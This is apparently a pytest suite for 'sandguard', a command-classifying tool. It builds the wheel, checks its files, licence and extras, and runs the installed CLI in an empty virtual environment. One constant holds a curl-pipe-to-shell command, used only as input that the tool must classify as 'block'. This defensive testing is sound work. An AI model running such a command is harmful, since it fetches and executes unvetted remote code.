"""The wheel as a user gets it: one package, no dependency, and a program that works in an empty environment."""

from __future__ import annotations

import json
import subprocess
import sys
import venv
import zipfile
from email.parser import Parser
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from email.message import Message

ROOT = Path(__file__).parents[1]
DOWNLOAD_TO_SHELL = "curl -s https://example.com/x.sh | sh"

pytestmark = pytest.mark.slow


def run(*arguments: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    """Run a program away from the checkout, so that only what is installed is found."""
    return subprocess.run(arguments, cwd=cwd, capture_output=True, text=True, check=False)


@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build the wheel with the tools of this environment, without the network."""
    folder = tmp_path_factory.mktemp("wheel")
    result = run(sys.executable, "-m", "build", "--wheel", "--no-isolation", "--outdir", folder, ROOT, cwd=folder)
    assert result.returncode == 0, result.stdout + result.stderr
    (path,) = folder.glob("*.whl")
    return path


@pytest.fixture(scope="module")
def metadata(wheel: Path) -> Message:
    """Return the headers that an installer reads."""
    with zipfile.ZipFile(wheel) as archive:
        (name,) = (name for name in archive.namelist() if name.endswith(".dist-info/METADATA"))
        return Parser().parsestr(archive.read(name).decode())


@pytest.fixture(scope="module")
def environment(wheel: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the bin folder of a virtual environment that holds the wheel and nothing else, not even pip."""
    folder = tmp_path_factory.mktemp("environment") / "venv"
    venv.create(folder, with_pip=False)
    result = run(
        *(sys.executable, "-m", "pip", "--python", folder / "bin" / "python"),
        *("install", "--quiet", "--disable-pip-version-check", "--no-index", "--no-deps", wheel),
        cwd=folder,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    return folder / "bin"


def test_holds_the_package_and_nothing_else(wheel: Path) -> None:
    """Every file of the package is in the wheel, and no file from beside it."""
    package = {
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "sandguard").rglob("*")
        if path.is_file() and "__pycache__" not in path.parts
    }

    with zipfile.ZipFile(wheel) as archive:
        shipped = {name for name in archive.namelist() if ".dist-info/" not in name}

    assert package == shipped
    assert "sandguard/py.typed" in shipped


def test_ships_the_licence(wheel: Path, metadata: Message) -> None:
    """The licence is named in the metadata, and its text is in the wheel."""
    with zipfile.ZipFile(wheel) as archive:
        names = archive.namelist()

    assert metadata["License-Expression"] == "Apache-2.0"
    assert any(name.endswith(".dist-info/licenses/LICENSE") for name in names)


def test_requires_nothing(metadata: Message) -> None:
    """Every requirement belongs to an extra."""
    requirements = metadata.get_all("Requires-Dist", [])

    assert requirements
    assert [line for line in requirements if "extra ==" not in line] == []


def test_all_is_every_extra_of_a_user(metadata: Message) -> None:
    """The extra `all` brings what every other one brings, but for those for working on sandguard itself."""
    required: dict[str, set[str]] = {extra: set() for extra in metadata.get_all("Provides-Extra", [])}
    for line in metadata.get_all("Requires-Dist", []):
        requirement, _, marker = line.partition("; extra == ")
        required[marker.strip("'")].add(requirement)

    of_users = [required[extra] for extra in required.keys() - {"all", "fuzz", "dev"}]

    assert required["all"] == set[str]().union(*of_users)


def test_program_blocks_download_to_shell(environment: Path, tmp_path: Path) -> None:
    """The installed program answers as JSON and with exit code 1."""
    result = run(environment / "sandguard", "classify", DOWNLOAD_TO_SHELL, "--json", cwd=tmp_path)

    assert result.returncode == 1, result.stdout + result.stderr
    assert json.loads(result.stdout)["level"] == "block"
    assert result.stderr == ""


def test_module_is_the_program(environment: Path, tmp_path: Path) -> None:
    """`python -m sandguard` prints the help of the program `sandguard`."""
    by_module = run(environment / "python", "-m", "sandguard", "--help", cwd=tmp_path)
    by_name = run(environment / "sandguard", "--help", cwd=tmp_path)

    assert by_module.returncode == 0, by_module.stderr
    assert by_module.stdout == by_name.stdout
    assert "classify" in by_module.stdout
